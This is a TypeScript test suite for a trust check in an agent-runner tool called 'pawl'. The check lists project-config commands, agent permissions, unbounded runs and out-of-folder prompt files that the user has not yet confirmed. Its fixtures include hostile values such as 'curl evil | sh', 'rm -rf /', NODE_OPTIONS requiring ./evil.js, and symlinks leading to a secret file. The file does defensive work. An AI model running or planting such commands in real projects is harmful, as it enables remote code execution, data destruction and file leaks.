import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Flags } from '../config/override-table.js';
import { loadConfig } from '../config/load-config.js';
import { trustConfig, unconfirmedCommands } from './trust.js';

const base = mkdtempSync(join(tmpdir(), 'pawl-trust-'));
afterAll(() => rmSync(base, { recursive: true, force: true }));

/** A project with this config, and a user with that one. */
class Project {
  readonly path = mkdtempSync(join(base, 'project-'));
  readonly home = mkdtempSync(join(base, 'home-'));

  constructor(config: string, user = '') {
    this.write(config);
    mkdirSync(join(this.home, 'pawl'));
    writeFileSync(join(this.home, 'pawl', 'config.yaml'), user);
    writeFileSync(join(this.path, 'done.sh'), '');
  }

  write(config: string): void {
    writeFileSync(join(this.path, 'pawl.yaml'), config);
  }

  config(flags: Flags = {}, env: Readonly<Record<string, string>> = {}) {
    return loadConfig({ cwd: this.path, env: { XDG_CONFIG_HOME: this.home, ...env }, flags });
  }

  get state(): string {
    return join(this.home, 'state');
  }

  open(flags?: Flags, env?: Readonly<Record<string, string>>): readonly string[] {
    return unconfirmedCommands(this.config(flags, env), this.state).map(({ what, shown }) => `${what}: ${shown}`);
  }

  trust(): void {
    trustConfig(this.config(), this.state);
  }
}

const EVERYTHING = `
agent: { name: mine, model: big, args: [--fast], env: { TOKEN: t0p }, permissions: bypass, allow: [npm test] }
agents: { mine: { command: [./mine.sh, a b], model_flag: --eval, resume_flag: --again } }
env: { NODE_OPTIONS: --require ./evil.js }
tests: npm test
checks: { lint: npm run lint }
hooks: { on_stop: ./bye.sh }
notify: { command: ./tell.sh, webhook: https://hooks.example.org/s3cr3t }
stop: { success: [{ all: [all_tests_pass, { custom_script: { script: ./done.sh, args: [x] } }] }] }
`;

describe('what nobody has confirmed', () => {
  it('is everything that the config of a project would have executed, without what is secret in it', () => {
    const project = new Project(EVERYTHING);
    expect(project.open()).toEqual([
      "agent mine: ./mine.sh 'a b'",
      'flag for a model: --eval',
      'flag for a session: --again',
      'agent model: big',
      'agent arguments: --fast',
      'agent variable: NODE_OPTIONS',
      'agent variable: TOKEN',
      'agent may do: everything, without asking (permissions: bypass)',
      "agent may run: 'npm test'",
      'tests: npm test',
      'check lint: npm run lint',
      'hook on_stop: ./bye.sh',
      'script: ./done.sh x',
      'notify: ./tell.sh',
      'posts to: hooks.example.org',
    ]);
  });

  it('is nothing where a config names no command', () => {
    expect(new Project('agent: claude\nstop: { limits: [{ max_cost: 5 }] }\n').open()).toEqual([]);
  });

  it('is not what the user says: in a file of his own, in a variable, on the command line', () => {
    const project = new Project('iteration_delay: 0\n', EVERYTHING);
    expect(project.open()).toEqual([]);
    const other = new Project('tests: rm -rf /\nagent: { command: ./evil.sh }\nchecks: { a: ./evil.sh }\n');
    expect(other.open({ tests: 'npm test', command: ['./mine.sh'], check: ['a=true'] })).toEqual([]);
    expect(other.open({ command: ['./mine.sh'] }, { PAWL_TESTS: 'npm test' })).toEqual(['check a: ./evil.sh']);
  });

  it('is found behind every short form', () => {
    const project = new Project('session: { claude_command: ./evil.sh }\nstop: { custom_scripts: [./done.sh] }\n');
    expect(project.open()).toEqual(['agent: ./evil.sh', 'script: ./done.sh']);
    project.write('stop_conditions: { custom_scripts: [./done.sh] }\nagent: { command: ./evil.sh -x }\n');
    expect(project.open()).toEqual(['agent: ./evil.sh -x', 'script: ./done.sh']);
  });

  it("is a project's argument, also when the user adds one", () => {
    const project = new Project('agent: { args: [--mcp-config, evil.json] }\n');
    expect(project.open({ 'agent-arg': ['--fast'] })).toEqual(['agent arguments: --mcp-config evil.json']);
    project.trust();
    expect(project.open({ 'agent-arg': ['--slow'] })).toEqual([]);
  });

  it('is, after a change, only what has changed', () => {
    const project = new Project('tests: npm test\nchecks: { lint: npm run lint }\nenv: { A: a }\n');
    project.trust();
    expect(project.open()).toEqual([]);
    project.write('tests: npm test\nchecks: { lint: curl evil | sh }\nhooks: { on_stop: npm test }\nenv: { A: b }\n');
    expect(project.open()).toEqual(['agent variable: A', 'check lint: curl evil | sh', 'hook on_stop: npm test']);
    project.write('checks: { lint: npm run lint }\n');
    expect(project.open()).toEqual([]);
  });

  it("is `permissions: agent`, which for some agents is everything and for others the project's own word", () => {
    const project = new Project('agent: { name: claude, permissions: agent }\n');
    expect(project.open()).toEqual([
      expect.stringMatching(/^agent may do: .*its own settings.*\(permissions: agent\)$/),
    ]);
    expect(project.open({ permissions: 'agent' })).toEqual([]);
  });

  it('is the whole agent when any part of it is another: confirmed parts do not make a confirmed whole', () => {
    const project = new Project('agent: { name: codex, args: [-c, touch evil] }\n');
    project.trust();
    project.write('agent: { command: sh }\n');
    project.trust();
    project.write('agent: { command: sh, args: [-c, touch evil] }\n');
    expect(project.open()).toEqual(['agent: sh', "agent arguments: -c 'touch evil'"]);
    project.write('agent: { name: pi, args: [-c, touch evil] }\n');
    expect(project.open()).toEqual(["agent arguments: -c 'touch evil'"]);
  });

  it('is what an agent of its own does with a model and a session', () => {
    const config = (flag: string, model: string) =>
      `agent: { name: mine, model: "${model}" }\nagents: { mine: { command: node, model_flag: ${flag} } }\n`;
    const project = new Project(config('--model', 'big'));
    project.trust();
    project.write(config('--eval', 'big'));
    expect(project.open()).toEqual(['agent mine: node', 'flag for a model: --eval', 'agent model: big']);
    project.write(config('--model', "import('./evil.js')"));
    expect(project.open()).toContain("agent model: import('./evil.js')");
  });

  it('is an entry of `allow` that looks like two', () => {
    const project = new Project('agent: { name: claude, allow: [npm test, "Bash(rm:*)"] }\n');
    project.trust();
    project.write('agent: { name: claude, allow: ["npm test, Bash(rm:*)"] }\n');
    expect(project.open()).toEqual(["agent may run: 'npm test, Bash(rm:*)'"]);
  });

  it('is a script whose words are split in another way', () => {
    const config = (args: string) => `stop: { success: [{ custom_script: { script: ./done.sh, args: ${args} } }] }\n`;
    const project = new Project(config('[a, b]'));
    project.trust();
    project.write(config('["a b"]'));
    expect(project.open()).toEqual(["script: ./done.sh 'a b'"]);
  });

  it('is all of it in another folder, and for another user', () => {
    const project = new Project('tests: npm test\n');
    project.trust();
    expect(new Project('tests: npm test\n').open()).toEqual(['tests: npm test']);
    expect(unconfirmedCommands(project.config(), join(base, 'nobody'))).toHaveLength(1);
  });

  it('is all of it when the note of it is damaged', () => {
    const project = new Project('tests: npm test\n');
    project.trust();
    const folder = join(project.state, 'pawl', 'trusted');
    const [name = ''] = readdirSync(folder);
    const file = join(folder, name);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ version: 1, path: project.path });
    for (const damage of ['', '{', 'null', '{"commands":7}']) {
      writeFileSync(file, damage);
      expect(project.open()).toEqual(['tests: npm test']);
    }
    project.trust();
    expect(project.open()).toEqual([]);
  });

  it('cannot be kept where nothing can be written, which is said and does not hang', () => {
    const project = new Project('tests: npm test\n');
    expect(() => trustConfig(project.config(), '/proc/pawl')).toThrow();
  });
});

describe('a working directory outside the folder', () => {
  it('is asked about when the config of the project names it', () => {
    const project = new Project('working_dir: ..\n');
    expect(project.open()).toEqual([`works in: ${realpathSync(base)}`]);
    project.trust();
    expect(project.open()).toEqual([]);
    expect(new Project('working_dir: .\n').open()).toEqual([]);
  });
});

describe('a prompt from outside the folder', () => {
  const secret = join(base, 'secret.txt');
  writeFileSync(secret, 'hidden');
  const listed = [`sends to the model: ${realpathSync(secret)}`];

  it.each([
    ['by a path that leads up', 'prompt_path: ../secret.txt\n'],
    ['by an absolute path', `prompt_path: ${secret}\n`],
  ])('%s is asked about', (_how, config) => {
    const project = new Project(config);
    expect(project.open()).toEqual(listed);
    project.trust();
    expect(project.open()).toEqual([]);
  });

  it('by a link is asked about, also as the PROMPT.md that nobody names', () => {
    const project = new Project('prompt_path: task.md\n');
    symlinkSync(secret, join(project.path, 'task.md'));
    expect(project.open()).toEqual(listed);
    project.write('');
    symlinkSync('../secret.txt', join(project.path, 'PROMPT.md'));
    expect(project.open()).toEqual(listed);
  });

  it('by a folder that is a link is asked about', () => {
    const project = new Project('prompt_path: docs/secret.txt\n');
    symlinkSync(base, join(project.path, 'docs'));
    expect(project.open()).toEqual(listed);
  });

  it('that the user names is not asked about', () => {
    const named = new Project('prompt_path: ../secret.txt\n', `prompt_path: ${secret}\n`);
    expect(named.open({ 'prompt-path': secret })).toEqual([]);
    expect(named.open({}, { PAWL_PROMPT_PATH: secret })).toEqual([]);
    expect(named.open({ prompt: 'Go.' })).toEqual([]);
    expect(new Project('', `prompt_path: ${secret}\n`).open()).toEqual([]);
  });

  it('is not one that a link in the folder leads to inside of it', () => {
    const project = new Project('');
    writeFileSync(join(project.path, 'task.md'), 'Go.');
    symlinkSync('task.md', join(project.path, 'PROMPT.md'));
    expect(project.open()).toEqual([]);
  });
});

describe('a config without bounds', () => {
  it.each([
    ['max_iterations: 1000000\n', 'up to 1,000,000 iterations, without another limit'],
    ['max_iterations: 0\n', 'without a limit'],
    [
      'stop: { limits: [{ max_iterations: 5000 }, { max_cost: 1000000 }] }\n',
      'up to 5,000 iterations, without another limit',
    ],
    [
      'max_iterations: 1000000\nstop: { failure: [never] }\n',
      'up to 1,000,000 iterations, without another limit, and never gives up',
    ],
  ])('is asked about: %j', (config, shown) => {
    expect(new Project(config).open()).toEqual([`runs: ${shown}`]);
  });

  it.each([
    ['max_iterations: 500\n', ''],
    ['stop: { failure: [never] }\n', ''],
    ['max_iterations: 0\nstop: { limits: [{ max_cost: 20 }] }\n', ''],
    ['max_iterations: 0\n', 'max_cost_per_day: 30\n'],
    ['', 'max_iterations: 0\n'],
  ])("is not one that something bounds, or that is the user's own: %j", (config, user) => {
    expect(new Project(config, user).open()).toEqual([]);
  });

  it('is not asked about when a flag bounds it', () => {
    expect(new Project('max_iterations: 0\n').open({ 'max-iterations': '10' })).toEqual([]);
  });
});
